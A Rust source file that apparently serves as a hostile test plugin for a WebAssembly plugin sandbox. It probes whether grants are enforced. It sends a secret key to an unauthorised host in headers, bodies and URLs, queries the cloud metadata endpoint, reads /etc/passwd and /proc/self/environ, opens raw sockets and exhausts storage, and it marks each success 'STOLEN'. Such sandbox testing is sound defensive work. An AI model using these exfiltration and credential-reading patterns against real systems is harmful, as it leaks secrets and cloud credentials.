//! Reaching for what is not granted. Each tells what came of it.

use crate::flagpost::plugin::{http, key_value, log, secrets};
use crate::{Settings, post};

pub(crate) fn reach(what: &str, settings: &Settings) -> String {
    match what {
        // By our own interface and by WASI's.
        "ungranted" => {
            let url = format!("{}/steal", settings.text("foreign"));
            let [own, wasi] = [told(post(&url, Vec::new(), "events")), standard(settings.text("foreign"), "/steal", &[])];
            format!("{own}; {wasi}")
        }
        "redirect" => told(post(&format!("{}/away", settings.text("granted")), Vec::new(), "events")),
        "wasi-redirect" => standard(settings.text("granted"), "/away", &[]),
        "metadata" => told(post("http://169.254.169.254/latest/meta-data", Vec::new(), "")),
        "name" => told(post(settings.text("named"), Vec::new(), "")),
        "big" => match post(&format!("{}/big", settings.text("granted")), Vec::new(), "") {
            Ok(reply) => format!("{} bytes came", reply.body.len()),
            Err(why) => why.to_string(),
        },
        "socket" => match std::net::TcpStream::connect(settings.text("foreign").trim_start_matches("http://")) {
            Ok(_) => "STOLEN: connected".into(),
            Err(why) => format!("no socket: {why}"),
        },
        "files" => files(),
        "echo" => echo(settings),
        // A secret on its way to a host that it is not for, in a body, and in a URL.
        "smuggle" => {
            let secret = secrets::get("KEY").unwrap_or_default();
            let header = vec![("x-key".to_owned(), secret.clone())];
            let other = settings.text("other");
            let tries = [
                told(post(&format!("{other}/in"), header, "")),
                told(post(&format!("{other}/in"), Vec::new(), &secret)),
                told(post(&format!("{other}/in?{secret}"), Vec::new(), "")),
                standard_body(other, &secret),
            ];
            tries.join("; ")
        }
        "state" => {
            for n in 0..10_000 {
                if let Err(why) = key_value::set(&format!("key-{n}"), &[b'x'; 1024]) {
                    return format!("{n} values were kept: {why:?}");
                }
            }
            "STOLEN: no end".into()
        }
        other => format!("it knows no `{other}`"),
    }
}

fn told(answer: Result<http::Response, http::SendError>) -> String {
    match answer {
        Ok(reply) if reply.status < 300 => format!("STOLEN: HTTP {} {}", reply.status, reply.body),
        Ok(reply) => format!("HTTP {}", reply.status),
        Err(why) => why.to_string(),
    }
}

fn files() -> String {
    let variables = std::env::vars().count();
    let reached = [
        std::fs::read("/etc/passwd").is_ok(),
        std::fs::read("../../../../etc/passwd").is_ok(),
        std::fs::read("/proc/self/environ").is_ok(),
        std::fs::read_dir("/").is_ok(),
        std::fs::read_dir(".").is_ok(),
        std::fs::write("x", "x").is_ok(),
        std::fs::write("/tmp/x", "x").is_ok(),
    ];
    let reached = reached.iter().filter(|reached| **reached).count();
    let word = if variables + reached == 0 { "nothing" } else { "STOLEN" };
    format!("{word}: {variables} variables and {reached} files were seen")
}

/// Has the destination repeat the secret, then tells everybody what it said.
fn echo(settings: &Settings) -> String {
    let secret = secrets::get("KEY").unwrap_or_default();
    let headers = vec![("authorization".to_owned(), format!("Bearer {secret}"))];
    let said = match post(&format!("{}/echo", settings.text("granted")), headers.clone(), "") {
        Ok(reply) => format!("{} {:?}", reply.body, reply.headers),
        Err(why) => why.to_string(),
    };
    let basic = format!("Basic {}", base64(format!("anna:{secret}").as_bytes()));
    let also = match post(&format!("{}/echo", settings.text("granted")), vec![("authorization".into(), basic)], "") {
        Ok(reply) => reply.body,
        Err(why) => why.to_string(),
    };
    let wasi = standard(settings.text("granted"), "/echo", &headers).replace("STOLEN: ", "");
    let shown = std::env::var("SHOWN").unwrap_or_default();
    let text = format!("it said {said} and {also} and {wasi}, shown is {shown}");
    log::log(log::Level::Warn, &text);
    println!("{text}");
    text
}

fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for three in bytes.chunks(3) {
        let bits = three.iter().chain([&0, &0]).take(3).fold(0u32, |bits, &byte| bits << 8 | u32::from(byte));
        for at in 0..4 {
            let letter = if at <= three.len() { LETTERS[(bits >> (18 - 6 * at) & 63) as usize] } else { b'=' };
            out.push(char::from(letter));
        }
    }
    out
}

/// A POST by `wasi:http`.
fn standard(origin: &str, path: &str, headers: &[(String, String)]) -> String {
    wasi(origin, path, headers, None)
}

fn standard_body(origin: &str, body: &str) -> String {
    wasi(origin, "/in", &[], Some(body))
}

fn wasi(origin: &str, path: &str, headers: &[(String, String)], body: Option<&str>) -> String {
    use wasip2::http::outgoing_handler::handle;
    use wasip2::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
    let fields = Fields::new();
    for (name, value) in headers {
        fields.append(name, value.as_bytes()).unwrap();
    }
    let request = OutgoingRequest::new(fields);
    request.set_method(&Method::Post).unwrap();
    request.set_scheme(Some(&Scheme::Http)).unwrap();
    request.set_authority(Some(origin.trim_start_matches("http://"))).unwrap();
    request.set_path_with_query(Some(path)).unwrap();
    let outgoing = request.body().unwrap();
    let pending = match handle(request, None) {
        Ok(pending) => pending,
        Err(why) => return format!("wasi: {why:?}"),
    };
    if let Some(body) = body {
        let stream = outgoing.write().unwrap();
        // A refusal may close it.
        let _closed = stream.blocking_write_and_flush(body.as_bytes());
    }
    let _closed = OutgoingBody::finish(outgoing, None);
    pending.subscribe().block();
    match pending.get() {
        Some(Ok(Ok(reply))) => {
            let status = reply.status();
            let word = if status < 300 { "STOLEN: " } else { "" };
            let mut text = Vec::new();
            if let Ok(body) = reply.consume() {
                let stream = body.stream().unwrap();
                while let Ok(piece) = stream.blocking_read(64 << 10) {
                    text.extend(piece);
                }
            }
            format!("{word}wasi: HTTP {status} {}", String::from_utf8_lossy(&text))
        }
        other => format!("wasi: {other:?}"),
    }
}
